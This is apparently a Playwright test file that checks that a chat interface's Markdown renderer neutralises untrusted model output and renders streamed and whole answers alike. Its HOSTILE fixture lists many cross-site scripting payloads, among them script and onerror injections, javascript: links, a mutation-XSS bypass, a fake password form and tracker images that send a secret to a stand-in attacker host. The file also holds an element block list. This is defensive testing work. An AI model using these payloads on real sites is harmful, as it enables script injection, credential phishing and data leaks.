"""Markdown in Chromium: what a model writes is untrusted, streams, and must look the same either way."""

import re
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, expect
from served import Server

pytestmark = pytest.mark.browser

OpenPage = Callable[..., Page]

HOSTILE = """<script>window.hacked = 'script'</script>

<img src=x onerror="window.hacked = 'onerror'"> text <img src="http://evil.example/pixel.png">

![tracker](http://evil.example/a.png?q=secret) ![inline](data:image/svg+xml,<svg onload=alert(1)>)

[click](javascript:window.hacked='link') [data](data:text/html,<script>window.hacked='data'</script>)
[vb](vbscript:x) [case](JaVaScRiPt:window.hacked=1) <javascript:window.hacked=2> [good](https://good.example/page)

<iframe src="http://evil.example/"></iframe>
<form action="http://evil.example/"><input name="password"><button>Sign in</button></form>
<style>body { display: none }</style>
<link rel="stylesheet" href="http://evil.example/x.css">
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<base href="http://evil.example/">
<object data="http://evil.example/"></object><embed src="http://evil.example/">
<svg><script>window.hacked = 'svg'</script><a xlink:href="javascript:alert(1)">x</a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">
<div id="app" onclick="window.hacked='id'" style="position:fixed;inset:0">covered</div>
<details open ontoggle="window.hacked='toggle'"><summary>x</summary></details>

| <img src=x onerror=window.hacked='table'> | b |
|---|---|
| `<script>` | [x](javascript:alert(1)) |

```html" onmouseover="window.hacked='lang'
<script>window.hacked = 'fence'</script>
```

[ref]: javascript:window.hacked='ref'
A [ref] link and an unclosed <img src=x onerror=window.hacked='eof'
"""


def answer(page: Page, server: Server, reply: str) -> Any:
    server.backend.reply = reply
    box = page.get_by_role("textbox", name="Message")
    box.fill("Go")
    box.press("Enter")
    expect(page.get_by_role("button", name="Send", exact=True)).to_be_visible()
    expect(page.locator("article.answer footer").last).to_be_visible()
    return page.locator("article.answer .markdown").last


def assert_harmless(page: Page) -> None:
    page.wait_for_timeout(150)
    assert page.evaluate("() => window.hacked") is None
    bad = "script, img, iframe, form, input, style, link, meta, base, object, embed, math, details"
    bad += ", svg:not(.icon), [id], [class*=evil]"
    assert page.locator(".markdown").locator(bad).count() == 0
    attributes = page.evaluate(
        """() => [...document.querySelectorAll('.markdown .block *')].flatMap((e) => e.getAttributeNames())"""
    )
    assert set(attributes) <= {"href", "title", "rel", "target", "start", "align"}
    links = page.evaluate(
        "() => [...document.querySelectorAll('.markdown a')].map((a) => a.getAttribute('href'))"
    )
    assert all(href is None or re.match(r"https?://", href) for href in links), links
    for link in page.locator(".markdown a[href]").all():
        assert "noopener" in (link.get_attribute("rel") or "") and link.get_attribute("target") == "_blank"


def test_hostile_output_is_harmless_whole_and_streamed(server: Server, open_page: OpenPage) -> None:
    page = open_page(server.url)
    shown = answer(page, server, HOSTILE)
    assert_harmless(page)
    expect(shown).to_contain_text("<script>window.hacked = 'script'</script>")
    expect(shown.get_by_role("link", name="good")).to_have_attribute("href", "https://good.example/page")
    expect(shown.get_by_role("link", name="Image: tracker")).to_be_visible()
    page.reload()
    expect(page.locator("article.answer footer")).to_be_visible()
    assert_harmless(page)


def test_hostile_questions_and_titles_are_text(server: Server, open_page: OpenPage) -> None:
    page = open_page(server.url)
    attack = "<img src=x onerror=\"window.hacked='title'\"><b>bold</b> **stars**"
    page.get_by_role("textbox", name="Message").fill(attack)
    page.keyboard.press("Enter")
    expect(page.locator("article.question")).to_have_text(attack)
    expect(page.get_by_role("link", name="<img src=x")).to_be_visible()
    assert page.evaluate("() => window.hacked") is None


MARKDOWN = """# Title

A paragraph with **bold**, *italic*, ~~gone~~, `code` and a [link](https://good.example).
Second line of it.

1. one
2. two

   a paragraph of two

   ```js
   nested()
   ```

3. three

- [x] done
- [ ] open

> quoted
continued

| left | right |
|------|------:|
| a | 1 |
| b<br>c | 2 |

~~~python
def f():
    return "```"
~~~

Setext
------

The area is $\\pi r^2$, with *stars $a*b$ around*:
$$
\\int_0^1 x^2\\,dx
- \\frac{1}{3}
$$
and it costs $5 or $6.

\\[ \\begin{aligned} a &= b \\\\ c &= d \\end{aligned} \\]

    indented code

***

The end.
"""


def html_of(page: Page) -> str:
    return page.locator("article.answer .markdown").last.inner_html()


def settled(page: Page) -> None:
    """Wait for formulas and colours, which come when their libraries have been loaded."""
    expect(page.locator("article.answer footer")).to_be_visible()
    expect(page.locator("figure.code")).to_have_count(3)
    expect(page.locator("figure.code .hljs-title")).to_have_text(["nested", "f"])
    expect(page.locator(".formula .katex")).to_have_count(4)


def test_streamed_equals_whole(server: Server, open_page: OpenPage) -> None:
    page = open_page(server.url)
    answer(page, server, MARKDOWN)
    settled(page)
    streamed = html_of(page)
    for part in (
        "<h1>Title</h1>",
        "<strong>bold</strong>",
        "<em>italic</em>",
        "<del>gone</del>",
        '<ol start="1">' if '<ol start="1">' in streamed else "<ol>",
        '<th align="right">right</th>',
        "b<br>c",
        "<hr>",
        "☑ done",
        "<h2>Setext</h2>",
    ):
        assert part in streamed, part
    page.reload()
    settled(page)
    assert html_of(page) == streamed


def test_every_prefix_of_a_stream_settles_on_the_same_document(server: Server, open_page: OpenPage) -> None:
    page = open_page(server.url)
    answer(page, server, "ready")
    module = page.evaluate(
        "() => document.querySelector('script[type=module]').src.replace('app.js', 'document.js')"
    )
    wrong = page.evaluate(
        """async ([module, source]) => {
            const { MarkdownDocument } = await import(module);
            const parts = (b) => [b.kind, String(b.html ?? ''), b.language, b.text];
            const flat = (doc) => JSON.stringify(doc.blocks.value.map(parts));
            const whole = flat(new MarkdownDocument(source));
            const wrong = [];
            for (const step of [1, 2, 3, 7, 50]) {
                const doc = new MarkdownDocument('');
                for (let at = 0; at < source.length; at += step) {
                    doc.append(source.slice(at, at + step));
                    doc.flush(false);
                }
                doc.flush(true);
                if (flat(doc) !== whole) wrong.push([step, flat(doc), whole]);
            }
            return wrong;
        }""",
        [module, MARKDOWN + HOSTILE.replace("[ref]: ", "ref: ")],
    )
    assert wrong == []


def test_only_the_last_block_is_parsed_again(server: Server, open_page: OpenPage) -> None:
    page = open_page(server.url)
    answer(page, server, "ready")
    module = page.evaluate(
        "() => document.querySelector('script[type=module]').src.replace('app.js', 'document.js')"
    )
    kept, longest_tail = page.evaluate(
        """async (module) => {
            const { MarkdownDocument } = await import(module);
            const doc = new MarkdownDocument('');
            let longest = 0, kept = 0;
            for (let n = 0; n < 300; n += 1) {
                const before = doc.blocks.value;
                doc.append(`Paragraph ${n} with some words.\\n\\n`);
                doc.flush(false);
                longest = Math.max(longest, doc.tail.length);
                kept = before.slice(0, -1).filter((block, index) => block === doc.blocks.value[index]).length;
            }
            return [kept, longest];
        }""",
        module,
    )
    assert kept == 298
    assert longest_tail < 100


def test_an_open_code_block_is_shown_as_code_while_it_grows(server: Server, open_page: OpenPage) -> None:
    server.backend.hold_after = 6
    page = open_page(server.url)
    server.backend.reply = "Look:\n\n```python\nx = 1\ny = 2\n```\n\nDone."
    page.get_by_role("textbox", name="Message").fill("Go")
    page.keyboard.press("Enter")
    expect(page.locator("figure.code figcaption")).to_contain_text("python")
    expect(page.locator("figure.code pre")).to_contain_text("x = 1")
    server.backend.hold_after = None
    expect(page.locator(".markdown")).to_contain_text("Done.")
    expect(page.locator("figure.code pre")).to_have_text("x = 1\ny = 2")
